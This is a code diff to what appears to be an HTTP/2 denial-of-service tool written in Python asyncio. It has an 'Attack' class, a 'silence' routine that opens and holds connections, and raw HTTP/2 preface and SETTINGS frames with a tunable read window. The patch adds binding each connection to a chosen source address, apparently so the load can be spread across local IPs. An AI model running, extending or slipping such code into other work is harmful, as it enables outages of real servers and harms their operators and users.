@@ -79,9 +79,12 @@ class Connection:
         self.pump = asyncio.create_task(self._pump())
 
     @classmethod
-    async def open(cls, address: str, seen: Counter[str], *, read_window: int = DEFAULT_WINDOW) -> Connection:
+    async def open(
+        cls, address: str, seen: Counter[str], *, source: str | None = None, read_window: int = DEFAULT_WINDOW
+    ) -> Connection:
         """Connect and introduce ourselves; the server may send ``read_window`` bytes of each stream."""
-        reader, writer = await connect(address)
+        reader, writer = await connect(address, source)
+        seen["connections"] += 1
         own = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + read_window.to_bytes(4, "big")
         writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, own))
         opened = cls(reader, writer, seen)
@@ -154,12 +157,12 @@ class Connection:
             self.ended.add(stream)
 
 
-async def connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-    """A connection to ``host:port`` or ``unix:/path``."""
+async def connect(address: str, source: str | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """A connection to ``host:port`` (from the host ``source``) or ``unix:/path``."""
     if address.startswith("unix:"):
         return await asyncio.open_unix_connection(address.removeprefix("unix:"))
     host, _, port = address.rpartition(":")
-    return await asyncio.open_connection(host, int(port))
+    return await asyncio.open_connection(host, int(port), local_addr=(source, 0) if source else None)
 
 
 @dataclass
@@ -183,7 +186,7 @@ class Attack:
     async def connections(self, **options: Any) -> AsyncIterator[Connection]:
         """As many connections as are asked for."""
         for _ in range(self["connections"]):
-            opened = await Connection.open(self.address, self.seen, **options)
+            opened = await Connection.open(self.address, self.seen, source=self.options.get("source"), **options)
             self.held.append(opened)
             yield opened
 
@@ -220,7 +223,7 @@ async def silence(attack: Attack) -> None:
 
     async def hold() -> None:
         reader, writer = await connect(attack.address)
-        attack.seen["connected"] += 1
+        attack.seen["connections"] += 1
         attack.held.append(writer)
 
         async def wait() -> None:
